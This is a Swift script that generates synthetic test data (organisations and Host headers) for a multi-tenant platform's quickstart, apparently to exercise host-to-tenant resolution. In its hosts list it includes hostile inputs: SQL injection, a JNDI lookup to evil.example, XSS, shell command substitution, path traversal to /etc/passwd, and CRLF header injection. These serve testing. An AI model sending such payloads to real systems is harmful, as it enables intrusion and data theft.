// Writes the quickstart's data files:
//   swiftc -o generate Examples/QuickstartData/*.swift && ./generate Examples/Quickstart/Data
//
// Everything follows from one seed, so that the committed files can be checked by writing them again.

import Foundation

var dice = Generator(state: 20_250_501)

let first = [
  "Amber", "Aurora", "Basalt", "Blue Door", "Borealis", "Calypso", "Cedar", "Cobalt", "Copper", "Drift", "East Light",
  "Ember", "Fathom", "Fern", "Field", "Fjord", "Ginkgo", "Granite", "Halcyon", "Harbour", "Indigo", "Iris", "Juniper",
  "Kestrel", "Lantern", "Linden", "Lumen", "Marble", "Meridian", "Mosaic", "Nimbus", "North", "Obsidian", "Ochre",
  "Orchard", "Paper Moon", "Pine", "Quarry", "Quill", "Raven", "Saffron", "Salt", "Sienna", "Solstice", "Tidal",
  "Umbra", "Vesper", "Willow", "Wren", "Zephyr",
]
let second = [
  "Gallery", "Museum", "Studio", "Collective", "Archive", "Press", "Foundation", "Atelier", "House", "Projects",
  "Works",
  "Collection",
]
let places = [
  "Bergen", "Porto", "Kyoto", "Leeds", "Turin", "Lyon", "Graz", "Aarhus", "Ghent", "Tartu", "Cork", "Malmo", "Oaxaca",
  "Lagos", "Quito", "Pune",
]

func slug(_ name: String) -> String {
  name.lowercased().split(whereSeparator: { !$0.isLetter && !$0.isNumber }).joined(separator: "-")
}

struct Organization {
  var id: String
  var name: String
  var slug: String
  var status = "active"
  var subdomains: [String] = []
  var domains: [(host: String, state: String)] = []
}

var organizations: [Organization] = []
var slugs: Set<String> = []
while organizations.count < 240 {
  var name = dice.pick(first) + " " + dice.pick(second)
  if dice.chance(1, of: 3) { name += " " + dice.pick(places) }
  let base = dice.chance(1, of: 5) ? String(slug(name).split(separator: "-")[0]) : slug(name)
  guard slugs.insert(base).inserted else { continue }
  let digits = (0..<8).map { _ in String(dice.next() % 36, radix: 36) }.joined()
  organizations.append(Organization(id: "org_" + digits, name: name, slug: base))
}
for index in organizations.indices {
  let slug = organizations[index].slug
  if index % 31 == 17 { organizations[index].status = "suspended" }
  if index % 61 == 40 { organizations[index].status = "closed" }
  if dice.chance(1, of: 8) {
    organizations[index].subdomains.append(dice.pick(["eu", "press", "shop", "tickets"]) + ".\(slug).emperor.gallery")
  }
  if dice.chance(1, of: 20) { organizations[index].subdomains.append("\(slug)-online.emperor.gallery") }
  guard dice.chance(2, of: 5) else { continue }
  let domain = "\(slug).example"
  let state = dice.chance(4, of: 5) ? "active" : dice.pick(["pending", "verified"])
  organizations[index].domains.append(("www." + domain, state))
  if dice.chance(1, of: 2) { organizations[index].domains.append((domain, state)) }
  if dice.chance(1, of: 6) { organizations[index].domains.append(("art." + domain, "pending")) }
}
organizations[3].domains.append(("xn--mnchen-3ya.example", "active"))
organizations[5].domains.append(("xn--caf-dma.example", "active"))

func line(_ organization: Organization) -> String {
  let domains = organization.domains.map { $0.state == "active" ? $0.host : "\($0.host)=\($0.state)" }
  return [
    organization.id, organization.slug, organization.status, organization.subdomains.joined(separator: ","),
    domains.joined(separator: ","), organization.name,
  ].joined(separator: "\t")
}

let directory =
  ["# organisation\tslug\tstatus\tsubdomains\tcustom domains (=state where not active)\tname"] + organizations.map(line)

// MARK: Host headers

/// The same host as browsers, proxies and scripts write it.
func worn(_ host: String) -> String {
  switch dice.next() % 8 {
  case 0: host.uppercased()
  case 1: host + "."
  case 2: host + ":443"
  case 3: host.prefix(1).uppercased() + host.dropFirst() + ":8443"
  case 4: host + ".:80"
  default: host
  }
}

var hosts: [String] = []
for organization in organizations {
  hosts.append(worn("\(organization.slug).emperor.gallery"))
  if dice.chance(1, of: 5) { hosts.append("\(organization.slug).localhost:3000") }
  hosts += (organization.subdomains + organization.domains.map(\.host)).map(worn)
}
hosts += [
  "emperor.gallery", "EMPEROR.GALLERY.", "emperor.gallery:443", "localhost", "localhost:8080", "www.emperor.gallery",
  "admin.emperor.gallery", "api.emperor.gallery:443", "app.emperor.gallery", "static.emperor.gallery",
  "assets.emperor.gallery", "vercel.emperor.gallery", "status.emperor.gallery", "WWW.emperor.gallery.",
]
// Links with a slip of the finger, and names that nobody has yet.
for organization in organizations where dice.chance(1, of: 8) {
  var letters = Array(organization.slug)
  letters.swapAt(0, 1)
  hosts.append(String(letters) + ".emperor.gallery")
  hosts.append("www.\(organization.slug).emperor.gallery")
  hosts.append("\(organization.slug).example.net")
}
let target = organizations[0].slug
let other = organizations[1].slug
hosts += [
  // Names that only look like the platform's.
  "\(target).emperor.gallery.evil.example", "evilemperor.gallery", "\(target).evilemperor.gallery",
  "\(target)-emperor.gallery", "emperor.gallery.evil.example", "\(target).evil.example", "emperor.galery",
  "emperor-gallery.example", "\(target).gallery", "gallery", "\(target)", "localhost.evil.example", "evillocalhost",
  // Slugs that cannot be.
  "a--b.emperor.gallery", "xn--caf-dma.emperor.gallery", "-\(target).emperor.gallery", "\(target)-.emperor.gallery",
  "\(String(repeating: "n", count: 63)).emperor.gallery", "\(String(repeating: "n", count: 64)).emperor.gallery",
  // Addresses, in all their spellings.
  "127.0.0.1", "127.0.0.1:8080", "10.0.0.5", "169.254.169.254", "192.0.2.7:443", "0x7f.1", "0x7F000001", "2130706433",
  "017700000001", "1.2.3.4.5", "[::1]", "[::1]:8080", "[2001:db8::8:800:200c:417a]:443", "[::ffff:192.0.2.1]",
  "[fe80::1%25eth0]", "[v1.fe80::a]", "::1", "[::1", "[]", "127.1.", "\(target).emperor.gallery.0x1",
  // Ports.
  "\(target).emperor.gallery:", "\(target).emperor.gallery:0", "\(target).emperor.gallery:65535",
  "\(target).emperor.gallery:65536", "\(target).emperor.gallery:99999999999999999999", "\(target).emperor.gallery:http",
  "\(target).emperor.gallery:-1", "\(target).emperor.gallery:80:80", "\(target).emperor.gallery::443",
  "\(target).emperor.gallery:00000443", ":443", ":", "",
  // More than one host, and things that are not hosts.
  "\(target).emperor.gallery, \(other).emperor.gallery", "\(target).emperor.gallery,evil.example",
  "\(target).emperor.gallery;\(other)", "user@\(target).emperor.gallery", "user:secret@\(target).emperor.gallery",
  "\(target).emperor.gallery@evil.example", "\(target).emperor.gallery/", "\(target).emperor.gallery/../admin",
  "\(target).emperor.gallery?tenant=\(other)", "\(target).emperor.gallery#\(other)",
  "http://\(target).emperor.gallery", "https://\(target).emperor.gallery/", "//\(target).emperor.gallery",
  "\\\\\(target).emperor.gallery", "*.emperor.gallery", "%74arget.emperor.gallery", "\(target)%2eemperor.gallery",
  "\(target)%00.emperor.gallery", "_dmarc.emperor.gallery", "\(target)_.emperor.gallery", " \(target).emperor.gallery",
  "\(target).emperor.gallery ", "\(target) .emperor.gallery", "\\t\(target).emperor.gallery",
  "\(target).emperor.gallery\\r\\nX-Tenant: \(other)", "\(target).emperor.gallery\\n", "\\x00",
  "\(target)\\x00.emperor.gallery",
  "\(target).emperor.gallery\\x7f", "\\xff\\xfe", "caf\\xe9.emperor.gallery",
  // Attacks on whoever builds a query, a command or a page from it.
  "' OR 1=1 --", "'; DROP TABLE tenants; --", "\(target)'.emperor.gallery", "${jndi:ldap://evil.example/a}",
  "{{7*7}}.emperor.gallery", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "$(id).emperor.gallery",
  "`id`.emperor.gallery", "../../etc/passwd", "|whoami", "() { :;}; echo", "() { ignored; }", "null", "undefined",
  "NaN", "none", "0", "-", ".", "..", "...", "\(target)..emperor.gallery", ".\(target).emperor.gallery",
  "\(target).emperor.gallery..",
  // Letters that look alike, and signs that fold.
  "\(target)。emperor.gallery", "\(target)．emperor.gallery", "ｗｗｗ.emperor.gallery", "аurora.emperor.gallery",
  "\u{212A}yoto.emperor.gallery", "münchen.example", "café.example",
  "stra\u{DF}e.example", "\u{FEFF}\(target).emperor.gallery", "team\u{200B}.emperor.gallery",
  "\u{202E}yrellag.emperor.gallery", "😀.emperor.gallery",
  // What scanners ask of every server.
  "metadata.google.internal", "kubernetes.default.svc", "example.com", "www.example.com:443", "proxy",
  "burpcollaborator.example",
  "internal", "intranet.corp", "db01", "wpad", "autodiscover.emperor.gallery", "mail.emperor.gallery",
  "ftp.emperor.gallery", "dev.emperor.gallery", "staging.emperor.gallery", "test.emperor.gallery",
  "git.emperor.gallery",
  "\(String(repeating: "a.", count: 126))a", "\(String(repeating: "a.", count: 127))a",
  String(repeating: "a", count: 300), String(repeating: "label.", count: 60) + "emperor.gallery",
  "a.b.c.d.e.f.emperor.gallery", "\(target).www.emperor.gallery", "www.www.emperor.gallery",
]

let header = [
  "# One Host header a line, empty ones too. \\t, \\r, \\n, \\\\ and \\xNN stand for the bytes that a line cannot hold."
]
guard CommandLine.arguments.count == 2 else {
  print("usage: generate FOLDER")
  exit(2)
}
let folder = URL(fileURLWithPath: CommandLine.arguments[1])
func write(_ lines: [String], to name: String) throws {
  try (lines.joined(separator: "\n") + "\n").write(to: folder.appending(path: name), atomically: true, encoding: .utf8)
}
try write(directory, to: "organizations.tsv")
try write(header + hosts, to: "hosts.txt")
let usage = UsageLines(of: organizations.map { (id: $0.id, isClosed: $0.status == "closed") })
try write(usage.lines, to: "usage.ndjson")
print(
  "\(organizations.count) organisations, \(hosts.count) Host headers, \(usage.runCount) runs, \(usage.eventCount) events"
)
